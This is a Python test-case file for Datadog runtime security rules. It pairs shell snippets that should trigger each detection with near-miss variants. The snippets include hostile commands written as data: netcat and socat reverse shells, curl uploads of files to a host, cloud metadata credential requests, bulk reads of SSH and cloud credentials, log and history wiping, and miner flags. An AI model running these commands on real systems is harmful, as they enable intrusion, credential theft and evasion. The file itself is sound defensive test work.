"""For rules of Datadog's published policy: what has to match each, and the nearest thing that must not.

Each text is a shell script that runs in the world that policy_world.py makes, where FILES exist, /usr/bin/dpkg and
/usr/bin/passwd are the actor, every IPv4 address is the world's own, and $SLEEPER is a process outside of the trace.
All matches run before all misses, so that a miss can be what is known by then.
"""

import os.path

from policy_world import Case

FILES = """
/home/ann/.aws/config /home/ann/.aws/credentials /home/ann/.ssh/id_rsa /home/ann/.kube/config /home/ann/.kube/cache
/home/ann/.docker/config.json /home/ann/.bashrc /home/ann/mail/.bashrc /home/ann/.bash_history /home/ann/.zsh_history
/home/ann/.ssh/authorized_keys /home/ann/.ssh/known_hosts
/home/bob/.ssh/authorized_keys2 /home/bob/.ssh/config /home/bob/.bash_history
/etc/audit/auditd.conf /etc/cron.d/job /etc/cron.daily/job /etc/crontab /etc/ld.so.conf /etc/pam.d/x /etc/nsswitch.conf
/etc/sudoers /etc/sudoers.d/x /etc/shadow /etc/gshadow /etc/gshadow.old /etc/ssl/certs/x.pem /etc/ssl/certs/y.pem
/etc/systemd/system/x.service /etc/systemd/user/x.service /etc/systemd/x.conf /etc/modprobe.d/x.conf
/etc/kubernetes/manifests/here /etc/udev/rules.d/x.rules
/etc/audit/rules.d/audit.rules /etc/rc.local /etc/ld.so.conf.d/x.conf /etc/modprobe.d/y.conf /etc/modprobe.d/z.conf
/etc/cron-daily/here /etc/modprobe/here /etc/pam/here /etc/sudoers.d/more/here /home/ann/boot/here /home/ann/.prng/here
/home/ann/.azure/azureProfile.json /home/ann/mail/.azure/azureProfile.json /srv/bin/here
/home/ann/.config/gcloud/legacy_credentials/x/adc.json /home/ann/.config/gcloud/legacy_credentials/adc.json
/run/secrets/kubernetes.io/serviceaccount/token /run/secrets/kubernetes.io/token
/run/secrets/kubernetes.io/serviceaccount/a/b/token /run/secrets/kubernetes.io/serviceaccount/a/b/tokens
/boot/vmlinuz /boot/initrd /var/log/wtmp /var/log/wtmp.1 /var/spool/cron/crontabs/ann
""".split()

CASES = (
    # exec: contexts, which are variables of processes and cgroups
    Case("execution_context_cgroup", ". ./contain; exec bin/actor", "exec bin/actor"),
    Case("execution_context_interactive_shell", "bin/actor @terminal /bin/sh -c true", "/bin/sh -c true"),
    Case("execution_context_spawned_shell", "bin/nginx @run /bin/sh -c true", "bin/nginy @run /bin/sh -c true"),
    Case("execution_context_daemonized_process", "bin/setsid x", "bin/setside x"),
    Case("execution_context_daemonized_process", "bin/nohup @run bin/setsid x; bin/nohup @run bin/nohup x",
         "bin/nohupx @run bin/actor x"),
    Case("execution_context_interpreter_service_spawned_shell",
         ". ./contain; do/python3 accept 8.8.4.4 8080 run /bin/sh -c true || true",
         ". ./contain; do/python3 accept 8.8.4.4 8081 run /bin/sh -c true || true"),
    Case("execution_context_interpreter_package_install", "bin/npm --quiet install left-pad",
         "bin/npm --quiet installed left-pad; bin/npm -e 'x install y'"),
    Case("execution_context_cicd_runner", "GITLAB_CI=true bin/actor", "GITLAB=true bin/actor"),

    # exec: names, arguments, flags and options
    Case("auditctl_usage", "bin/auditctl -D", "bin/auditctl -l"),
    Case("aws_imds", "bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x",
         "bin/curl -s http://169.254.169.254/latest/meta-data/instance-id"),
    Case("base64_decode_v2", "bin/base64 -d file", "bin/base64 -w 0 file"),
    Case("common_net_intrusion_util", "bin/nmap 10.0.0.1", "bin/nmap -V; bin/nmap --version"),
    Case("cryptominer_args", "bin/worker --donate-level 1", "bin/worker --donate 1"),
    Case("cryptominer_args", "bin/worker -o stratum+tcp://pool:1", "bin/worker -o tcp://pool:1"),
    Case("cryptominer_args", "bin/worker --randomx-1gb-pages", "bin/worker --randomx-pages"),
    Case("cryptominer_envs", "POOL_URL=x bin/worker", "POOL=x bin/worker POOL_URL=x"),
    Case("enum_images", "bin/docker image list", "bin/docker image list x"),
    Case("find_credentials", "bin/find / -name id_rsa", "bin/find / -name id_card"),
    Case("iptables_egress_allowed", "bin/iptables -A OUTPUT -d 8.8.8.8 -j ACCEPT",
         "bin/iptables -A OUTPUT -d 10.8.8.8 -j ACCEPT; bin/iptables -A INPUT -d 8.8.8.8 -j ACCEPT"),
    Case("kernel_module_compilation", "/usr/bin/make -C /lib/modules/6.1/build || true",
         "/usr/bin/make -f /lib/modules/6.1/build || true"),
    Case("kernel_process_masquerade", "bin/actor @named '[kworker/0:1]' bin/actor x",
         "bin/actor @named 'kworker [0]' bin/actor x"),
    Case("lateral_movement_tool", "bin/ssh -L 80:10.20.30.40:80 host", "bin/ssh -v 10.20.30.40"),
    Case("net_unusual_request_v2", "bin/wget http://h/a.php", "bin/wget http://h/a.html"),
    Case("net_util_exfiltration_v2", "bin/curl -F file=@x http://h/", "bin/curl -F file=@x http://localhost/"),
    Case("netcat_shell", "bin/nc -l -p 99", "bin/nc -l 99"),
    Case("netcat_shell", "bin/ncat h 99 -e /bin/sh", "bin/ncat h 99 -e /bin/sh --help-me"),
    Case("offensive_k8s_tool", "bin/python3 KubiScan.py", "bin/python3 scan.py; bin/perl KubiScan.py"),
    Case("openssl_backdoor", "bin/openssl s_client -connect h:1", "bin/openssl s_server -accept 1"),
    Case("perl_shell", "bin/perl -e 'use Socket; print SOCK_STREAM'", "bin/perl -c SOCK_STREAM"),
    Case("python_cli_code", "bin/python3.9 -c 'import subprocess'", "bin/python3.9 -c 'import setuptools, subprocess'"),
    Case("rogue_ssm_agent_registration", "bin/amazon-ssm-agent -register -code x -id y",
         "bin/amazon-ssm-agent -register -id y"),
    Case("service_stop_v2", "bin/systemctl stop x", "bin/systemctl status x"),
    Case("shell_history_symlink", "bin/ln -s /home/ann/.bash_history x", "bin/ln -s /home/ann/history x"),
    Case("trufflehog_executed", "bin/worker --json filesystem x --results=verified", "bin/worker --json filesystem x"),
    Case("usermod_privileged_group", "bin/usermod -aG sudo eve", "bin/usermod -aG video eve; bin/usermod -r sudo -G x"),
    Case("aws_cli_usage", "bin/aws s3 ls", "bin/awk s3"),
    Case("azure_imds", "bin/wget 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&x'",
         "bin/wget 'http://169.254.169.254/metadata/instance?api-version=2018-02-01'"),
    Case("gcp_imds", "bin/curl metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
         "bin/curl metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token/x"),
    Case("exec_lsmod", "bin/lsmod", "bin/lsmod2"),
    Case("exec_whoami_v2", "bin/whoami", "bin/whoamI"),
    Case("exec_wrmsr", "bin/wrmsr 0x1 0", "bin/rdmsr 0x1"),
    Case("file_sync_exfil", "bin/rsync -a x h:", "bin/rsyncd"),
    Case("find_mgmt_socket", "bin/find / -name docker.sock", "bin/find / -name docker.soc"),
    Case("kernel_msr_write", "bin/modprobe msr allow_writes=on", "bin/modprobe msr"),
    Case("kmod_list", "bin/kmod list", "bin/kmod static-nodes"),
    Case("network_sniffing_tool", "bin/tcpdump -i lo", "bin/tcp -i lo"),
    Case("php_shell", "bin/php -r '$s = socket_create(1);'", "bin/php -f socket_create; bin/php -r 'fsockopen(1);'"),
    Case("php_shell", "bin/php -r 'exec(\"/bin/sh\");'", "bin/php -r 'exec(\"/bin/ls\");'"),
    Case("socat_shell", "bin/socat TCP:h:1 EXEC:/bin/sh,pty", "bin/socat TCP:h:1 -"),
    Case("suspicious_container_client_v2", ". ./contain; bin/kubectl get pods", "bin/kubectl get pods"),
    Case("curl_mgmt_socket", ". ./contain; bin/curl --unix-socket /run/docker.sock h",
         ". ./contain; bin/curl --unix-socket /run/http.sock h; bin/curl -x /run/docker.sock h"),

    # exec: files, users, environments
    Case("devshm_execution", "cp bin/actor /dev/shm/x; /dev/shm/x", "cp bin/actor /dev/shm/y; cat /dev/shm/y"),
    Case("hidden_file_executed", "cp bin/actor /home/.x; /home/.x", "cp bin/actor /home/x.y; /home/x.y"),
    Case("install_kernel_headers", "/usr/bin/dpkg --install linux-headers-6.1",
         "/usr/bin/dpkg --install linux-image-6.1; bin/dpkg --install linux-headers-6.1"),
    Case("passwd_execution_v2", "/usr/bin/passwd ann", "/usr/bin/passwd -S ann; bin/passwd ann"),
    Case("memfd_create_v2", "bin/actor @memory x bin/actor", "bin/actor @run bin/memfd"),
    Case("looney_tunables_exploit",
         "cp bin/actor tuned; chmod 4755 tuned; GLIBC_TUNABLES=x do/deeds nobody run ./tuned",
         "cp bin/actor plain; chmod 0755 plain; GLIBC_TUNABLES=x do/deeds nobody run ./plain; "
         "chmod 4755 plain; GLIBC_TUNABLES=x ./plain; do/deeds nobody run ./plain"),
    Case("ld_preload_unusual_library_path", "LD_PRELOAD=/tmp/ebpfless-no-such.so bin/actor",
         "LD_PRELOAD=/usr/lib/ebpfless-no-such.so LD_LIBRARY_PATH=/tmp/x bin/actor"),
    Case("suspicious_suid_execution", "cp bin/actor fresh; chmod 4755 fresh; ./fresh",
         "cp bin/actor old; chmod 4755 old; touch -d '1 hour ago' old; ./old; "
         "cp bin/actor young; chmod 0755 young; ./young"),
    Case("tar_execution_v2", "/usr/bin/tar -c -f x.tar contain", "/usr/bin/tar -t -f x.tar || true"),
    Case("tar_execution_v2", "tar --create -f y.tar contain", "cp /usr/bin/tar bin/tar; bin/tar -c -f z.tar contain"),

    # exec: parents, ancestors and terminals
    Case("cups_spawned_shell", "bin/foomatic-rip @run bin/actor", "bin/foomatic @run bin/actor"),
    Case("database_shell_execution", "bin/postgres @run /bin/sh -c true", "bin/postgres @run /bin/sh pg_wal/x || true"),
    Case("java_shell_execution_parent", "bin/java @run /usr/bin/id",
         "bin/javac @run /usr/bin/id; bin/java @run bin/actor @run /usr/bin/id"),
    Case("jupyter_shell_execution", "bin/jupyter-notebook @run bin/python3 @run /bin/sh -c true",
         "bin/jupyter-nbconvert @run bin/python3 @run /bin/sh -c true"),
    Case("git_cve_2025_48384", "do/git clone --recursive run bin/actor @run /bin/sh -c true",
         "cp /bin/sh git; echo './git two --recursive' > one; echo '/bin/sh -c true' > two; ./git one clone"),
    Case("nohup_usage", "bin/nohup @run bin/actor", "bin/nohup; bin/nohups @run bin/actor"),
    Case("omigod", "bin/omiagent @run bin/actor @run bin/actor", "bin/omiserver @run bin/actor; bin/omiagent"),
    Case("potential_web_shell_parent_v2", "bin/php-fpm @run /usr/bin/id", "bin/php-fpm @run bin/id"),
    Case("tunnel_traffic", "bin/iodine h", "bin/actor @run bin/iodine h"),
    Case("tunnel_traffic", "bin/socat TCP4-LISTEN:80 x", "bin/socat tcp4-listen:80 x"),
    Case("user_created_tty_v2", "bin/actor @terminal bin/useradd eve",
         "bin/useradd eve; bin/actor @terminal bin/useradd -D; /usr/bin/dpkg @terminal bin/useradd eve"),
    Case("user_deleted_tty", "bin/actor @terminal bin/deluser eve", "bin/deluser eve; /usr/bin/dpkg @terminal bin/deluser x"),
    Case("apparmor_modified_tty_v2", "bin/actor @terminal bin/aa-disable x", "bin/aa-disable x"),
    Case("webdriver_spawned_shell", "bin/chromedriver-120 @run bin/id", "bin/chromedriver-120 @run bin/chrome"),

    # exec: containers
    Case("compiler_in_container_v2", ". ./contain; bin/gcc x.c", "bin/gcc x.c; . ./contain; bin/go test"),
    Case("deploy_priv_container", ". ./contain; bin/actor",
         "setpriv --bounding-set -all --inh-caps -all sh -c '. ./contain; exec bin/actor'"),
    Case("net_util_in_container_v3", ". ./contain; bin/netcat-x h", ". ./contain; bin/netcat-x localhost"),
    Case("net_util_v2", "bin/netcat-x h", ". ./contain; bin/netcat-x h"),
    Case("nsenter_in_container", ". ./contain; bin/nsenter -t 1 -m", ". ./contain; bin/nsenter -t 2 -m"),
    Case("tty_shell_in_container", ". ./contain; bin/actor @terminal /bin/sh -c true",
         "bin/actor @terminal /bin/sh -c true; . ./contain; /bin/sh -c true"),
    Case("debugfs_in_container", ". ./contain; bin/debugfs x", "bin/debugfs x"),
    Case("interactive_shell_in_container_v2", ". ./contain; /bin/sh -i -c true", ". ./contain; /bin/sh -c 'true -i'"),
    Case("mount_in_container", ". ./contain; bin/mount x y", "bin/mount x y; . ./contain; bin/umount y"),
    Case("package_management_in_container_v2", ". ./contain; /usr/bin/dpkg -i x", ". ./contain; bin/dpkg -i x"),
    Case("unshare_in_container", ". ./contain; bin/unshare -m x", "bin/unshare -m x"),

    # open
    Case("credential_category_aws", "box=3; . ./contain; cat /home/ann/.aws/config",
         "box=3; . ./contain; cat /home/ann/.aws/credentials"),
    Case("credential_category_azure", ". ./contain; cat /home/ann/.azure/azureProfile.json",
         ". ./contain; cat /home/ann/mail/.azure/azureProfile.json"),
    Case("credential_category_docker", ". ./contain; cat /home/ann/.docker/config.json", "cat /home/ann/.bashrc"),
    Case("credential_category_gcp", ". ./contain; cat /home/ann/.config/gcloud/legacy_credentials/x/adc.json",
         ". ./contain; cat /home/ann/.config/gcloud/legacy_credentials/adc.json"),
    Case("credential_category_k8s", ". ./contain; cat /run/secrets/kubernetes.io/serviceaccount/token",
         ". ./contain; cat /run/secrets/kubernetes.io/token"),
    Case("credential_category_k8s", ". ./contain; cat /run/secrets/kubernetes.io/serviceaccount/a/b/token",
         ". ./contain; cat /run/secrets/kubernetes.io/serviceaccount/a/b/tokens"),
    Case("credential_category_ssh", ". ./contain; cat /home/ann/.ssh/id_rsa",
         ". ./contain; cat /home/ann/.ssh/known_hosts"),
    Case("credential_category_system", ". ./contain; cat /etc/shadow",
         ". ./contain; /usr/bin/passwd @read /etc/shadow"),
    Case("bulk_credential_harvesting", ". ./contain; cd /home/ann; cat .aws/config .ssh/id_rsa .kube/config .docker/*",
         ". ./contain; cd /home/ann; cat .aws/config .ssh/id_rsa .kube/config"),
    Case("auditd_config_modified", ": >> /etc/audit/auditd.conf",
         "cat /etc/audit/auditd.conf; bin/auditctl @append /etc/audit/auditd.conf"),
    Case("bpfdoor_pid_file_creation", ": > /var/run/haldrund.pid", ": < /var/run/haldrund.pid; : > /run/hald.pid"),
    Case("cron_at_job_creation_open", ": >> /etc/cron.daily/job", "cat /etc/cron.daily/job; : >> /etc/cron.job"),
    Case("drop_caches", "cat /proc/sys/vm/drop_caches || true", "cat /proc/sys/vm/swappiness"),
    Case("dynamic_linker_config_write", ": >> /etc/ld.so.conf", "/usr/bin/dpkg @append /etc/ld.so.conf"),
    Case("kernel_module_open", ": >> /etc/modprobe.d/x.conf",
         "/usr/bin/dpkg @run bin/actor @append /etc/modprobe.d/x.conf"),
    Case("net_file_download", "bin/curl @create /dev/shm/x.txt",
         "bin/curl @read /dev/shm/x.txt; bin/curl @create /home/x"),
    Case("pam_modification_open", ": >> /etc/pam.d/x", "cat /etc/pam.d/x"),
    Case("pci_11_5_critical_binaries_open", ": >> /boot/vmlinuz", "cat /boot/vmlinuz"),
    Case("ransomware_note", ": > '/home/ann/How to recover your files.txt'", ": > /home/ann/recover_files.lock"),
    Case("ransomware_note", ": > /home/ann/RECOVER-x.txt", ": > /home/ann/recover-x.txt"),
    Case("read_kubeconfig", "cat /home/ann/.kube/config", "cat /home/ann/.kube/cache"),
    Case("redis_save_module", "bin/redis-server @create /tmp/ebpfless-case-x.so; rm /tmp/ebpfless-case-x.so",
         "bin/redis-cli @create /tmp/ebpfless-case-y.so; rm /tmp/ebpfless-case-y.so"),
    Case("shell_history_truncated", "truncate -s 0 /home/ann/.bash_history", ": > /home/ann/.bash_history"),
    Case("shell_profile_modification", ": >> /home/ann/.bashrc", "cat /home/ann/.bashrc; : >> /home/ann/mail/.bashrc"),
    Case("ssh_authorized_keys_open", ": >> /home/ann/.ssh/authorized_keys", ": >> /home/ann/.ssh/known_hosts"),
    Case("static_pod_manifest_created", ": > /etc/kubernetes/manifests/x.yaml", ": > /etc/kubernetes/manifests/x.json"),
    Case("systemd_modification_open", ": >> /etc/systemd/user/x.service", ": >> /etc/systemd/x.conf"),
    Case("auditd_rule_file_modified", ": >> /etc/audit/rules.d/audit.rules", ": >> /etc/audit/rules.d/audit"),
    Case("compile_after_delivery", ". ./contain; bin/gcc @run bin/ld @create /srv/bin/x",
         ". ./contain; bin/gcc @run bin/python3 @create /srv/bin/y; bin/gcc @run bin/ld @create /srv/case/bin/z"),
    Case("nsswitch_conf_mod_open", ": >> /etc/nsswitch.conf", "cat /etc/nsswitch.conf"),
    Case("rc_scripts_modified", ": >> /etc/rc.local", "/usr/bin/dpkg @run bin/actor @append /etc/rc.local"),
    Case("ssh_it_tool_config_write", ": > /home/ann/.prng/x", "cat /home/ann/.prng/x; : > /home/ann/.prng.x"),
    Case("ssl_certificate_tampering_open", ": >> /etc/ssl/certs/x.pem",
         "/usr/bin/dpkg @run bin/actor @append /etc/ssl/certs/x.pem"),
    Case("sudoers_policy_modified_open", ": >> /etc/sudoers", "/usr/bin/dpkg @append /etc/sudoers; cat /etc/sudoers"),
    Case("udev_modification", ": > /etc/udev/rules.d/x.rules", ": < /etc/udev/rules.d/x.rules"),

    # other file events; see FAMILIES as well
    Case("dynamic_linker_config_unlink", ": > /etc/ld.so.conf.d/y.conf; rm /etc/ld.so.conf.d/y.conf",
         ": > /etc/ld.so.conf.d/y; rm /etc/ld.so.conf.d/y"),
    Case("delete_system_log", "rm /var/log/wtmp",
         "rm /var/log/wtmp.1; : > /var/log/wtmp; do/dockerd remove /var/log/wtmp"),
    Case("shell_history_deleted", "rm /home/ann/.zsh_history",
         "rm /home/bob/.ssh/config; mv /home/bob/.bash_history /home/bob/x"),
    Case("unlink_self", "cp do/deeds doomed; ./doomed remove doomed",
         "cp do/deeds alive; cp alive dead; ./alive remove dead"),
    Case("credential_modified_rename", "mv /etc/shadow /etc/shadow.new; mv /etc/shadow.new /etc/shadow",
         ": > /etc/shadow.x; mv /etc/shadow.x /etc/shadow.y"),
    Case("ssh_authorized_keys_rename", "mv /home/bob/.ssh/authorized_keys2 /home/bob/x",
         "mv /home/bob/x /home/bob/.ssh/authorized_keys3"),
    Case("sudoers_policy_modified_rename", ": > /etc/y; mv /etc/y /etc/sudoers.d/y",
         "mkdir /etc/sudoers.d/z; : > /etc/z; mv /etc/z /etc/sudoers.d/z/z"),
    Case("sudoers_policy_modified_chown", "chown 1000 /etc/sudoers", "chown 0:0 /etc/sudoers.d/x"),
    Case("ssl_certificate_tampering_link", "ln -s /etc/ssl/certs/x.pem /etc/ssl/x.pem",
         "ln -s /etc/ssl/x.pem /etc/ssl/y.pem"),
    Case("ssl_certificate_tampering_utimes", "touch /etc/ssl/certs/x.pem",
         "cp /usr/bin/touch bin/runc-x; bin/runc-x /etc/ssl/certs/y.pem"),
    Case("pci_11_5_critical_binaries_rename", "mv /boot/initrd /boot/initrd.new",
         "/usr/bin/dpkg @run /bin/mv /boot/initrd.new /boot/initrd"),
    Case("kernel_module_unlink", "rm /etc/modprobe.d/y.conf", "/usr/bin/dpkg @run /bin/rm /etc/modprobe.d/z.conf"),
    Case("pam_modification", ": >> /etc/pam.conf", "cat /etc/pam.conf; : >> /etc/pam.config"),
    Case("pam_modification", ": > /etc/new; mv /etc/new /etc/pam.d/new",
         ": > /etc/new; mv /etc/new /etc/pam/new"),
    Case("runc_leaky_fd", "do/runc.x chdir-fd /sys/fs/cgroup",
         "do/runc.x chdir-fd /sys/fs; do/runc chdir-fd /sys/fs/cgroup"),

    # sockets
    Case("irc_connection", "do/deeds connect 8.8.8.8 6667", "do/deeds connect 10.8.8.8 6667 connect 8.8.8.8 6668"),
    Case("p2pinfect_connection", "do/deeds connect 8.8.8.8 60150",
         "do/deeds connect 8.8.8.8 60151 connect 8.8.8.8 60099"),
    Case("shell_net_connection", "do/bash connect 8.8.8.8 80",
         "do/bash connect 192.168.8.8 80; do/bush connect 8.8.8.8 80"),
    Case("ssh_nonstandard_connection", "do/ssh connect 10.8.8.8 443", "do/ssh connect 10.8.8.8 22"),
    Case("ssh_outbound_connection", "do/deeds connect 10.8.8.8 22", "do/deeds connect 127.1.2.3 22"),
    Case("accept_incoming_http", "do/python3 accept 8.8.4.4 443", "do/python3 accept 10.8.4.4 443"),
    Case("bpfdoor_bpf_filter_creation", "do/deeds create /var/run/system.pid filter",
         "do/deeds create /var/run/my-system.pid filter"),

    # the kernel and other processes
    Case("bpf_override_return_usage", "do/deeds nobody helper 58", "do/deeds nobody helper 57"),
    Case("bpf_probe_write_user_usage", "do/deeds nobody helper 36", "do/deeds nobody helper 4"),
    Case("bpf_send_signal_usage", "do/deeds nobody helper 117", "do/deeds nobody helper 118"),
    Case("bpftrace_unsafe_bpf_prog_load", "do/bpftrace --unsafe nobody helper 1",
         "do/bpftrace --unsafe nobody map"),
    Case("ebpf_load_from_world_writable_dir", "cp do/deeds /dev/shm/load; /dev/shm/load nobody helper 1",
         "do/deeds /dev/shm/load nobody helper 1"),
    Case("libpam_ebpf_hook", "do/deeds /lib/libpam.so.0 nobody map",
         "do/deeds /lib/libpam_so nobody map"),
    Case("mount_proc_hide", "unshare --mount mount -t tmpfs none /proc/1",
         "unshare --mount mount -t tmpfs none /proc/sys"),
    Case("mount_host_fs", ". ./contain; unshare --mount mount --bind / /mnt",
         ". ./contain; unshare --mount mount --bind /etc /mnt"),
    Case("prctl_masquerading", "do/deeds name sshd; do/deeds name '[kthreadd]'",
         "do/sshd name sshd; do/deeds name sshe"),
    Case("ptrace_antidebug", "do/deeds traceme", "do/oneagenthelper traceme; do/deeds peek $SLEEPER"),
    Case("ptrace_injection", "do/deeds poke $SLEEPER", "do/deeds peek $SLEEPER"),
    Case("sensitive_tracing", "do/deeds peek $SLEEPER", "do/gdb peek $SLEEPER"),
    Case("rootkit_activation", "sleep 9 & kill -34 $!", "sleep 9 & kill -9 $!"),
    Case("suid_file_execution_v2", "cp do/deeds raised; chmod 4755 raised; do/deeds nobody run ./raised setuid 0",
         "cp do/deeds kept; chmod 4755 kept; do/deeds nobody run ./kept setuid 65534; ./kept setuid 0"),
    Case("coredump_triggered", "bin/actor @crash || true", "sleep 9 & kill -9 $!; wait"),
)

FAMILIES = (
    ("credential_modified_%s", "/etc/gshadow", "/etc/gshadow.old"),
    ("cron_at_job_creation_%s", "/etc/cron.daily/it", "/etc/cron-daily/it"),
    ("kernel_module_%s", "/etc/modprobe.d/it", "/etc/modprobe/it"),
    ("nsswitch_conf_mod_%s", "/etc/nsswitch.conf", "/etc/pam.d/nsswitch.conf"),
    ("pam_modification_%s", "/etc/pam.d/it", "/etc/pam/it"),
    ("pam_modification%.0s", "/etc/pam.conf", "/etc/pam.config"),
    ("pci_11_5_critical_binaries_%s", "/boot/it", "/home/ann/boot/it"),
    ("ssh_authorized_keys_%s", "/home/bob/.ssh/authorized_keys", "/home/bob/.ssh/authorized_keys.bak"),
    ("ssl_certificate_tampering_%s", "/etc/ssl/certs/it", "/etc/ssl/it"),
    ("sudoers_policy_modified_%s", "/etc/sudoers.d/it", "/etc/sudoers.d/more/it"),
    ("systemd_modification_%s", "/etc/systemd/system/it", "/etc/systemd/it"),
)
"""Rules that watch a file in the same way for each of CHANGES: their names, such a file, one next to it."""

CHANGES = (("chmod", "chmod 0604 %s"), ("chown", "chown 1000:1000 %s"), ("link", "ln %s link"),
           ("rename", "mv %s renamed"), ("unlink", "rm %s"), ("utimes", "touch %s"))

MODULE_CASES = (
    Case("kernel_module_load_container", ". ./contain; : > a.ko; do/deeds nobody module a.ko",
         ": > a.ko; do/deeds nobody module a.ko"),
    Case("kernel_module_load_v2", ": > rootkit.ko; do/deeds nobody module rootkit.ko",
         ": > nf_tables.ko; do/deeds nobody module nf_tables.ko"),
    Case("kernel_module_load_from_memory", "do/deeds nobody module-text x",
         ": > x.ko; do/deeds nobody module x.ko"),
    Case("kernel_module_load_from_memory_container", ". ./contain; do/deeds nobody module-text x",
         "do/deeds nobody module-text x"),
)


def _change(words: str, path: str) -> str:
    """Makes a file anew and changes it."""
    folder, name = os.path.split(path)
    return "cd %s; rm -f %s link renamed; : > %s; %s" % (folder, name, name, words % name)


FAMILY_CASES = tuple(Case(family % change, _change(words, watched), _change(words, other))
                     for family, watched, other in FAMILIES for change, words in CHANGES)
